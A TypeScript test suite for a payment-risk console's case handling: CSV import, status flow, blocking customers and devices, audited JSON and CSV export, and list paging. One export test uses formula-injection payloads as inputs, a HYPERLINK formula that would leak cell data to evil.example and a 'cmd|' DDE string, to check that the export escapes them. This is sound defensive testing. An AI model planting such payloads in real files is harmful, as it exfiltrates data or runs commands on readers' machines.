/**
 * Risk cases through the console's tRPC procedures (README "Risk cases from Alipay+"), in-process
 * as real staff accounts against the suite's database: CSV import (grouping, bad lines), the status
 * flow, the conclusion's required finding and summary, blocks (list entry + timeline + audit in one
 * transaction) and the export (exact JSON shape, CSV, recorded byte for byte and audited).
 */
import { createHash } from "node:crypto";
import { TRPCError } from "@trpc/server";
import { and, asc, eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import {
  riskCaseEntries,
  riskCaseExports,
  riskCaseItems,
  riskCases,
  riskListEntries,
  staffAuditLog,
} from "@/db/schema";
import { CASE_EXPORT_CSV_COLUMNS } from "@/server/cases/case-export";
import { parseCsv } from "@/server/stores/csv";
import { database, paidPayment, payRequest, uniqueId } from "../fixtures/gateway";
import { ALIPAY_TIME, textMatching } from "../fixtures/matchers";
import { decisionsOf } from "../fixtures/risk";
import { createStaffAccount, staffCaller, type StaffAccount } from "../fixtures/staff";

const { db } = database;
const HEADER = "caseId,raisedAt,deadline,reason,paymentRequestId,customerId,deviceId";

let analyst: StaffAccount;
let viewer: StaffAccount;
let api: Awaited<ReturnType<typeof staffCaller>>;

beforeAll(async () => {
  analyst = await createStaffAccount("ANALYST", "cases");
  viewer = await createStaffAccount("VIEWER", "cases");
  api = await staffCaller(analyst);
});

async function refusal(promise: Promise<unknown>): Promise<string> {
  try {
    await promise;
    return "allowed";
  } catch (error) {
    if (error instanceof TRPCError) return error.code;
    throw error;
  }
}

/** An exported CSV's data rows as column → cell, read with the project's RFC 4180 parser. */
function csvRows(content: string): Record<string, string>[] {
  const [header, ...records] = parseCsv(content);
  expect(header).toEqual({ line: 1, fields: [...CASE_EXPORT_CSV_COLUMNS] });
  return records.map((record) => {
    if (!("fields" in record)) throw new Error(`line ${record.line}: ${record.error}`);
    return Object.fromEntries(CASE_EXPORT_CSV_COLUMNS.map((c, i) => [c, record.fields[i]!]));
  });
}

async function auditOf(caseId: string) {
  return db
    .select({
      action: staffAuditLog.action,
      actorEmail: staffAuditLog.actorEmail,
      before: staffAuditLog.before,
      after: staffAuditLog.after,
    })
    .from(staffAuditLog)
    .where(and(eq(staffAuditLog.subjectType, "risk-case"), eq(staffAuditLog.subjectId, caseId)))
    .orderBy(asc(staffAuditLog.id));
}

async function caseRow(caseId: string) {
  const [row] = await db.select().from(riskCases).where(eq(riskCases.caseId, caseId));
  return row;
}

async function itemsOf(caseId: string) {
  return db
    .select({
      paymentRequestId: riskCaseItems.paymentRequestId,
      customerId: riskCaseItems.customerId,
      deviceId: riskCaseItems.deviceId,
    })
    .from(riskCaseItems)
    .where(eq(riskCaseItems.caseId, caseId))
    .orderBy(asc(riskCaseItems.id));
}

/** A case by hand with the given items, raised a minute ago. */
async function handCase(
  items: { paymentRequestId?: string; customerId?: string; deviceId?: string }[],
) {
  const created = await api.cases.create({
    raisedAt: new Date(Date.now() - 60_000).toISOString(),
    deadline: new Date(Date.now() + 7 * 86_400_000).toISOString(),
    reason: "Flagged by Alipay+",
    items,
  });
  expect(created.outcome).toBe("created");
  return created.caseId;
}

describe("creating a case by hand", () => {
  it("generates MANUAL-<date>-<random> ids, audits case.create, and is idempotent on a given id", async () => {
    const generated = await handCase([{ customerId: uniqueId("C") }]);
    expect(generated).toMatch(/^MANUAL-\d{8}-[0-9A-Z]{8}$/);
    expect(await caseRow(generated)).toMatchObject({ source: "MANUAL", createdBy: analyst.email });
    expect(await auditOf(generated)).toEqual([
      {
        action: "case.create",
        actorEmail: analyst.email,
        before: null,
        after: expect.objectContaining({ source: "MANUAL", items: 1 }) as unknown,
      },
    ]);

    const input = {
      caseId: uniqueId("ALIPAY"),
      raisedAt: "2026-11-20T10:00:00+09:00",
      reason: "Given id",
      items: [{ paymentRequestId: uniqueId("PAY") }],
    };
    expect(await api.cases.create(input)).toEqual({ caseId: input.caseId, outcome: "created" });
    expect(await api.cases.create(input)).toEqual({ caseId: input.caseId, outcome: "existing" });
    expect(await refusal(api.cases.create({ ...input, reason: "Other" }))).toBe("CONFLICT");
    expect((await auditOf(input.caseId)).map((a) => a.action)).toEqual(["case.create"]);
  });

  it("refuses an item naming nothing and a viewer", async () => {
    expect(
      await refusal(
        api.cases.create({ raisedAt: new Date().toISOString(), reason: "x", items: [{}] }),
      ),
    ).toBe("BAD_REQUEST");
    const viewerApi = await staffCaller(viewer);
    expect(
      await refusal(
        viewerApi.cases.create({
          raisedAt: new Date().toISOString(),
          reason: "x",
          items: [{ customerId: "C-1" }],
        }),
      ),
    ).toBe("FORBIDDEN");
  });
});

describe("CSV import", () => {
  it("groups rows by caseId, reports bad lines, keeps the good cases; a repeat changes nothing", async () => {
    const [a, b, c] = [uniqueId("CSV-A"), uniqueId("CSV-B"), uniqueId("CSV-C")];
    const csv = [
      HEADER,
      `${a},2026-11-20T10:00:00+09:00,2026-11-27T10:00:00+09:00,"Farming, on one device",PAY-${a},,`,
      `${b},2026-11-21T00:00:00Z,,Emulator,,,DEV-${b}`,
      `${a},2026-11-20T10:00:00+09:00,2026-11-27T10:00:00+09:00,"Farming, on one device",,C-${a},DEV-${a}`,
      `${c},2026-11-21T00:00:00Z,,Bad one,,,`,
      `${c},2026-11-21T00:00:00Z,,Bad one,PAY-${c},,`,
      `${b},not a time,,Emulator,,,DEV-2`,
      "",
    ].join("\r\n");
    const imported = await api.cases.importCsv({ csv });
    // b has a bad row (line 7) and c has one (line 5): both are left out whole; a is good.
    expect(imported).toMatchObject({ cases: 1, created: [a], unchanged: [], conflicts: [] });
    expect(await itemsOf(a)).toHaveLength(2);
    expect(await caseRow(b)).toBeUndefined();
    expect(await caseRow(c)).toBeUndefined();
    expect(imported.bad).toEqual([
      { line: 3, reason: `case ${b} is left out: line 7 is bad` },
      {
        line: 5,
        reason: "paymentRequestId, customerId, deviceId: the row must name at least one of them",
      },
      { line: 6, reason: `case ${c} is left out: line 5 is bad` },
      {
        line: 7,
        reason: "raisedAt: must be an ISO 8601 date-time with an offset (Z or ±hh:mm)",
      },
    ]);
  });

  it("creates each good case with all its rows as items, then finds them unchanged or in conflict", async () => {
    const [a, b] = [uniqueId("CSV-A"), uniqueId("CSV-B")];
    const rows = [
      `${a},2026-11-20T10:00:00+09:00,2026-11-27T10:00:00+09:00,"Farming, on one device",PAY-${a},,`,
      `${b},2026-11-21T00:00:00Z,,Emulator,,,DEV-${b}`,
      `${a},2026-11-20T10:00:00+09:00,2026-11-27T10:00:00+09:00,"Farming, on one device",,C-${a},DEV-${a}`,
      "too,few,fields",
    ];
    const csv = [HEADER, ...rows].join("\n");
    expect(await api.cases.importCsv({ csv })).toEqual({
      cases: 2,
      created: [a, b],
      unchanged: [],
      conflicts: [],
      bad: [{ line: 5, reason: "expected 7 fields, got 3" }],
    });
    expect(await caseRow(a)).toMatchObject({
      source: "CSV",
      raisedAt: new Date("2026-11-20T01:00:00Z"),
      deadline: new Date("2026-11-27T01:00:00Z"),
      reason: "Farming, on one device",
      status: "OPEN",
    });
    expect(await itemsOf(a)).toEqual([
      { paymentRequestId: `PAY-${a}`, customerId: null, deviceId: null },
      { paymentRequestId: null, customerId: `C-${a}`, deviceId: `DEV-${a}` },
    ]);
    expect(await itemsOf(b)).toEqual([
      { paymentRequestId: null, customerId: null, deviceId: `DEV-${b}` },
    ]);
    expect((await auditOf(a)).map((entry) => entry.action)).toEqual(["case.create"]);

    // The same file again: nothing new. Then a with another reason: a conflict, left unchanged.
    expect(await api.cases.importCsv({ csv })).toMatchObject({ created: [], unchanged: [a, b] });
    const changed = [HEADER, rows[0]!.replace("Farming, on one device", "Other"), rows[1]].join(
      "\n",
    );
    expect(await api.cases.importCsv({ csv: changed })).toMatchObject({
      created: [],
      unchanged: [b],
      conflicts: [{ caseId: a, line: 2 }],
    });
    expect((await caseRow(a))?.reason).toBe("Farming, on one device");
  });

  it("refuses a file without the exact header", async () => {
    expect(await refusal(api.cases.importCsv({ csv: "caseId,reason\nA,B\n" }))).toBe("BAD_REQUEST");
  });
});

describe("status flow", () => {
  it("goes open → investigating → concluded → communicated, one step at a time, audited", async () => {
    const caseId = await handCase([{ customerId: uniqueId("C") }]);
    expect(await refusal(api.cases.setStatus({ caseId, status: "COMMUNICATED" }))).toBe("CONFLICT");
    expect(
      await refusal(api.cases.conclude({ caseId, finding: "FALSE_POSITIVE", summary: "x" })),
    ).toBe("CONFLICT");
    await api.cases.setStatus({ caseId, status: "INVESTIGATING" });
    expect(await refusal(api.cases.setStatus({ caseId, status: "INVESTIGATING" }))).toBe(
      "CONFLICT",
    );
    await api.cases.conclude({
      caseId,
      finding: "FALSE_POSITIVE",
      summary: "Legitimate traveller",
    });
    expect(
      await refusal(api.cases.conclude({ caseId, finding: "FALSE_POSITIVE", summary: "again" })),
    ).toBe("CONFLICT");
    await api.cases.setStatus({ caseId, status: "COMMUNICATED" });
    expect(await refusal(api.cases.setStatus({ caseId, status: "COMMUNICATED" }))).toBe("CONFLICT");
    expect(await caseRow(caseId)).toMatchObject({
      status: "COMMUNICATED",
      finding: "FALSE_POSITIVE",
      summary: "Legitimate traveller",
      concludedBy: analyst.email,
    });
    expect((await auditOf(caseId)).map((a) => [a.action, a.before, a.after])).toEqual([
      ["case.create", null, expect.anything()],
      ["case.status", { status: "OPEN" }, { status: "INVESTIGATING" }],
      [
        "case.conclude",
        { status: "INVESTIGATING" },
        {
          status: "CONCLUDED",
          finding: "FALSE_POSITIVE",
          summary: "Legitimate traveller",
          concludedAt: expect.any(String) as unknown,
        },
      ],
      ["case.status", { status: "CONCLUDED" }, { status: "COMMUNICATED" }],
    ]);
    expect(
      await refusal(api.cases.setStatus({ caseId: uniqueId("NOPE"), status: "INVESTIGATING" })),
    ).toBe("NOT_FOUND");
  });

  it("concluding needs a finding and a summary", async () => {
    const caseId = await handCase([{ customerId: uniqueId("C") }]);
    await api.cases.setStatus({ caseId, status: "INVESTIGATING" });
    const conclude = api.cases.conclude as (input: unknown) => Promise<unknown>;
    expect(await refusal(conclude({ caseId, summary: "No finding" }))).toBe("BAD_REQUEST");
    expect(await refusal(conclude({ caseId, finding: "INCONCLUSIVE" }))).toBe("BAD_REQUEST");
    expect(await refusal(conclude({ caseId, finding: "INCONCLUSIVE", summary: "   " }))).toBe(
      "BAD_REQUEST",
    );
    expect(await refusal(conclude({ caseId, finding: "GUILTY", summary: "x" }))).toBe(
      "BAD_REQUEST",
    );
    expect(await caseRow(caseId)).toMatchObject({
      status: "INVESTIGATING",
      finding: null,
      summary: null,
      concludedAt: null,
    });
    await conclude({ caseId, finding: "INCONCLUSIVE", summary: "  Not enough signal  " });
    expect(await caseRow(caseId)).toMatchObject({
      status: "CONCLUDED",
      finding: "INCONCLUSIVE",
      summary: "Not enough signal",
    });
  });
});

describe("actions", () => {
  it("blocking a customer writes the block list, the timeline and the audit together", async () => {
    const customerId = uniqueId("C");
    const caseId = await handCase([{ customerId }]);
    await api.cases.block({
      caseId,
      subjectType: "CUSTOMER",
      subjectId: customerId,
      reason: "Confirmed farming",
      expiresAt: null,
    });
    const [entry] = await db
      .select()
      .from(riskListEntries)
      .where(
        and(eq(riskListEntries.subjectType, "CUSTOMER"), eq(riskListEntries.subjectId, customerId)),
      );
    expect(entry).toMatchObject({
      list: "BLOCK",
      reason: `case ${caseId}: Confirmed farming`,
      expiresAt: null,
      createdBy: analyst.email,
    });
    const timeline = await db
      .select()
      .from(riskCaseEntries)
      .where(eq(riskCaseEntries.caseId, caseId));
    expect(timeline).toEqual([
      expect.objectContaining({
        kind: "BLOCK_CUSTOMER",
        subjectId: customerId,
        text: "Confirmed farming",
        by: analyst.email,
      }),
    ]);
    expect((await auditOf(caseId)).map((a) => a.action)).toEqual([
      "case.create",
      "case.block-customer",
    ]);
    const [listAudit] = await db
      .select({ action: staffAuditLog.action })
      .from(staffAuditLog)
      .where(
        and(
          eq(staffAuditLog.subjectType, "list-entry"),
          eq(staffAuditLog.subjectId, `BLOCK:CUSTOMER:${customerId}`),
        ),
      );
    expect(listAudit).toEqual({ action: "lists.add" });
  });

  it("blocks the device of a payment an item names; refuses one the case does not name", async () => {
    const device = uniqueId("DEV");
    const paid = await paidPayment({
      order: { ...payRequest("x").order, env: { deviceTokenId: device } },
    });
    const caseId = await handCase([{ paymentRequestId: paid.paymentRequestId }]);
    const detail = await api.cases.get({ caseId });
    expect(detail.devices).toEqual([{ subjectId: device, blocked: false }]);
    expect(detail.customers).toEqual([{ subjectId: paid.customerId, blocked: false }]);

    const stranger = uniqueId("DEV");
    expect(
      await refusal(
        api.cases.block({ caseId, subjectType: "DEVICE", subjectId: stranger, reason: "x" }),
      ),
    ).toBe("BAD_REQUEST");
    expect(
      await db.select().from(riskListEntries).where(eq(riskListEntries.subjectId, stranger)),
    ).toEqual([]);

    const expiresAt = new Date(Date.now() + 30 * 86_400_000);
    await api.cases.block({
      caseId,
      subjectType: "DEVICE",
      subjectId: device,
      reason: "Device farm",
      expiresAt: expiresAt.toISOString(),
    });
    expect((await api.cases.get({ caseId })).devices).toEqual([
      { subjectId: device, blocked: true },
    ]);
    const [entry] = await db
      .select()
      .from(riskListEntries)
      .where(and(eq(riskListEntries.subjectType, "DEVICE"), eq(riskListEntries.subjectId, device)));
    expect(entry?.expiresAt).toEqual(expiresAt);
    expect((await auditOf(caseId)).map((a) => a.action)).toEqual([
      "case.create",
      "case.block-device",
    ]);
  });

  it("notes and claw-back notes go on the timeline, audited; a viewer cannot add one", async () => {
    const caseId = await handCase([{ deviceId: uniqueId("DEV") }]);
    await api.cases.addNote({ caseId, text: "Called the merchant" });
    await api.cases.addClawbackNote({ caseId, text: "Claw back KRW 3,720 of promotion savings" });
    expect(await refusal(api.cases.addNote({ caseId, text: "  " }))).toBe("BAD_REQUEST");
    const viewerApi = await staffCaller(viewer);
    expect(await refusal(viewerApi.cases.addNote({ caseId, text: "hi" }))).toBe("FORBIDDEN");
    const detail = await viewerApi.cases.get({ caseId });
    expect(detail.timeline.map((e) => [e.kind, e.text, e.by])).toEqual([
      ["CLAWBACK_NOTE", "Claw back KRW 3,720 of promotion savings", analyst.email],
      ["NOTE", "Called the merchant", analyst.email],
    ]);
    expect((await auditOf(caseId)).map((a) => a.action)).toEqual([
      "case.create",
      "case.note",
      "case.clawback-note",
    ]);
  });
});

describe("export", () => {
  it("is the exact JSON shape with each item's payments and decisions, recorded and audited", async () => {
    const device = uniqueId("DEV");
    const paid = await paidPayment({
      order: { ...payRequest("x").order, env: { deviceTokenId: device } },
    });
    const unknownDevice = uniqueId("DEV");
    const caseId = uniqueId("ALIPAY-EXPORT");
    await api.cases.create({
      caseId,
      raisedAt: new Date(Date.now() + 1000).toISOString(),
      reason: "Promotion abuse",
      items: [
        { paymentRequestId: paid.paymentRequestId },
        { customerId: paid.customerId },
        { deviceId: unknownDevice },
      ],
    });
    expect(await refusal(api.cases.export({ caseId, format: "JSON" }))).toBe("CONFLICT");
    await api.cases.setStatus({ caseId, status: "INVESTIGATING" });
    await api.cases.addNote({ caseId, text: "internal: not exported" });
    await api.cases.block({
      caseId,
      subjectType: "CUSTOMER",
      subjectId: paid.customerId,
      reason: "Abuse confirmed",
    });
    await api.cases.addClawbackNote({ caseId, text: "Claw back KRW 3,720" });
    await api.cases.conclude({ caseId, finding: "CONFIRMED_ABUSE", summary: "Farmed promotions" });

    const exported = await api.cases.export({ caseId, format: "JSON" });
    const json = JSON.parse(exported.content) as Record<string, unknown>;
    expect(Object.keys(json)).toEqual([
      "caseId",
      "status",
      "finding",
      "summary",
      "actions",
      "items",
      "concludedAt",
      "concludedBy",
    ]);
    const [decision] = await decisionsOf(paid.paymentRequestId);
    expect(decision).toBeDefined();
    const payment = {
      paymentId: paid.paymentId,
      paymentRequestId: paid.paymentRequestId,
      status: "SUCCESS",
      resultCode: "SUCCESS",
      customerId: paid.customerId,
      deviceId: device,
      referenceMerchantId: "M-JP-000123",
      merchantName: "Uji Sabo Ginza",
      paymentAmount: { currency: "JPY", value: "1800" },
      payToAmount: { currency: "KRW", value: "16740" },
      paymentTime: paid.paymentTime,
      promotions: [
        {
          promoId: "PROMO-AUTUMN-300",
          promoName: "Autumn Japan: 300 JPY off",
          savingsAmount: { currency: "KRW", value: "2790" },
        },
        {
          promoId: "PROMO-NEWUSER-100",
          promoName: "First Alipay+ payment: 100 JPY off",
          savingsAmount: { currency: "KRW", value: "930" },
        },
      ],
      decisions: [
        {
          decidedAt: decision!.decidedAt.toISOString().replace(/\.\d{3}Z$/, "+00:00"),
          context: "PAY",
          outcome: decision!.outcome,
          ruleSetVersion: decision!.ruleSetVersion,
          rulesHit: (
            decision!.verdicts as {
              rule: string;
              verdict: string;
              action: string;
              campaign: string | null;
            }[]
          )
            .filter((v) => v.verdict === "HIT")
            .map((v) => ({ rule: v.rule, action: v.action, campaign: v.campaign })),
        },
      ],
    };
    const window = {
      from: textMatching(ALIPAY_TIME),
      to: textMatching(ALIPAY_TIME),
      limit: 100,
      truncated: false,
    };
    expect(json).toEqual({
      caseId,
      status: "CONCLUDED",
      finding: "CONFIRMED_ABUSE",
      summary: "Farmed promotions",
      actions: [
        {
          kind: "BLOCK_CUSTOMER",
          subjectId: paid.customerId,
          text: "Abuse confirmed",
          at: textMatching(ALIPAY_TIME),
          by: analyst.email,
        },
        {
          kind: "CLAWBACK_NOTE",
          subjectId: null,
          text: "Claw back KRW 3,720",
          at: textMatching(ALIPAY_TIME),
          by: analyst.email,
        },
      ],
      items: [
        {
          paymentRequestId: paid.paymentRequestId,
          customerId: null,
          deviceId: null,
          lookup: "PAYMENT_REQUEST_ID",
          window: null,
          payments: [payment],
        },
        {
          paymentRequestId: null,
          customerId: paid.customerId,
          deviceId: null,
          lookup: "CUSTOMER_WINDOW",
          window,
          payments: [payment],
        },
        {
          paymentRequestId: null,
          customerId: null,
          deviceId: unknownDevice,
          lookup: "DEVICE_WINDOW",
          window,
          payments: [],
        },
      ],
      concludedAt: textMatching(ALIPAY_TIME),
      concludedBy: analyst.email,
    });
    const items = json.items as { window: { from: string; to: string } | null }[];
    const { from, to } = items[1]!.window!;
    expect(Date.parse(to) - Date.parse(from)).toBe(37 * 86_400_000);

    // Recorded byte for byte, audited with its digest, and handed out again unchanged.
    const [stored] = await db
      .select()
      .from(riskCaseExports)
      .where(eq(riskCaseExports.id, BigInt(exported.exportId)));
    expect(stored).toMatchObject({ caseId, format: "JSON", exportedBy: analyst.email });
    expect(stored?.content).toBe(exported.content);
    const audit = (await auditOf(caseId)).filter((a) => a.action === "case.export");
    expect(audit).toEqual([
      {
        action: "case.export",
        actorEmail: analyst.email,
        before: null,
        after: {
          exportId: exported.exportId,
          format: "JSON",
          bytes: Buffer.byteLength(exported.content),
          sha256: createHash("sha256").update(exported.content).digest("hex"),
        },
      },
    ]);
    const viewerApi = await staffCaller(viewer);
    expect(await refusal(viewerApi.cases.export({ caseId, format: "JSON" }))).toBe("FORBIDDEN");
    const again = await viewerApi.cases.exportFile({ caseId, exportId: exported.exportId });
    expect(again.content).toBe(exported.content);
    expect(again.fileName).toBe(`risk-case-${caseId}-${exported.exportId}.json`);
    expect(
      await refusal(
        viewerApi.cases.exportFile({ caseId: uniqueId("X"), exportId: exported.exportId }),
      ),
    ).toBe("NOT_FOUND");

    // CSV: one row per item and payment, the documented columns.
    const csv = await api.cases.export({ caseId, format: "CSV" });
    const lines = csv.content.split("\r\n");
    expect(lines[0]).toBe(CASE_EXPORT_CSV_COLUMNS.join(","));
    expect(lines).toHaveLength(1 + 3 + 1); // header, 3 rows, the final CRLF
    expect(lines.at(-1)).toBe("");
    const rows = csvRows(csv.content);
    expect(rows[0]).toMatchObject({
      caseId,
      status: "CONCLUDED",
      finding: "CONFIRMED_ABUSE",
      itemPaymentRequestId: paid.paymentRequestId,
      lookup: "PAYMENT_REQUEST_ID",
      paymentId: paid.paymentId,
      payToCurrency: "KRW",
      payToValue: "16740",
      promotions: "PROMO-AUTUMN-300 KRW 2790; PROMO-NEWUSER-100 KRW 930",
      decisionOutcome: decision!.outcome,
    });
    expect(rows[2]).toMatchObject({ itemDeviceId: unknownDevice, paymentId: "" });
    const exportsNow = (await api.cases.get({ caseId })).exports;
    expect(exportsNow.map((e) => [e.exportId, e.format])).toEqual([
      [csv.exportId, "CSV"],
      [exported.exportId, "JSON"],
    ]);
    expect(exportsNow[0]?.bytes).toBe(Buffer.byteLength(csv.content));
  });

  it("writes text a spreadsheet would run as a formula as text, and amounts as numbers", async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Uji Sabo")';
    const order = payRequest("x").order;
    const paid = await paidPayment({
      order: {
        ...order,
        merchant: { ...order.merchant, merchantName: formula, merchantDisplayName: formula },
      },
    });
    const caseId = uniqueId("=1+1");
    await api.cases.create({
      caseId,
      raisedAt: new Date(Date.now() + 1000).toISOString(),
      reason: "Promotion abuse",
      items: [{ paymentRequestId: paid.paymentRequestId }],
    });
    await api.cases.setStatus({ caseId, status: "INVESTIGATING" });
    const summary = "-2+3+cmd|' /C calc'!A0";
    await api.cases.conclude({ caseId, finding: "CONFIRMED_ABUSE", summary });

    const csv = await api.cases.export({ caseId, format: "CSV" });
    const [row] = csvRows(csv.content);
    expect(row).toMatchObject({
      caseId: `'${caseId}`,
      summary: `'${summary}`,
      merchantName: `'${formula}`,
      status: "CONCLUDED",
      payToValue: "16740",
    });
    // Text quoted, amounts bare: `,"'=HYPERLINK(…)",…,"KRW",16740,`.
    expect(csv.content).toContain(
      `,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Uji Sabo"")",`,
    );
    expect(csv.content).toContain(`,"JPY",1800,"KRW",16740,`);
  });
});

describe("the list", () => {
  it("puts cases being worked first by deadline, marks the overdue, and pages by keyset", async () => {
    const day = 86_400_000;
    const now = Date.now();
    const make = async (deadlineOffset: number | null, status?: "INVESTIGATING") => {
      const created = await api.cases.create({
        raisedAt: new Date(now - 9001 * day).toISOString(),
        deadline: deadlineOffset === null ? null : new Date(now + deadlineOffset).toISOString(),
        reason: "list test",
        items: [{ customerId: uniqueId("C") }],
      });
      if (status) await api.cases.setStatus({ caseId: created.caseId, status });
      return created.caseId;
    };
    // Deadlines far in the past, so that no other test's cases sort before these.
    const overdue = await make(-9000 * day, "INVESTIGATING");
    const later = await make(-8999 * day);
    const page = await api.cases.list({});
    const ours = page.rows.filter((row) => [overdue, later].includes(row.caseId));
    expect(ours.map((row) => [row.caseId, row.status, row.overdue, row.items])).toEqual([
      [overdue, "INVESTIGATING", true, 1],
      [later, "OPEN", true, 1],
    ]);
    const investigating = await api.cases.list({ status: "INVESTIGATING" });
    expect(investigating.rows.every((row) => row.status === "INVESTIGATING")).toBe(true);
    expect(investigating.rows.map((row) => row.caseId)).toContain(overdue);

    // Walking every page visits each case once, active before closed, deadlines ascending.
    const seen: { caseId: string; status: string; deadline: string | null }[] = [];
    let cursor: string | undefined;
    for (let i = 0; i < 1000; i++) {
      const next = await api.cases.list({ cursor });
      seen.push(...next.rows);
      if (!next.nextCursor) break;
      cursor = next.nextCursor;
    }
    expect(seen.filter((row) => [overdue, later].includes(row.caseId))).toHaveLength(2);
    const active = seen.filter((row) => ["OPEN", "INVESTIGATING"].includes(row.status));
    expect(seen.slice(0, active.length)).toEqual(active);
    const deadlines = active.map((row) => row.deadline ?? "9999");
    expect(deadlines).toEqual([...deadlines].sort());
    expect(await refusal(api.cases.list({ cursor: "garbage" }))).toBe("BAD_REQUEST");
  });
});
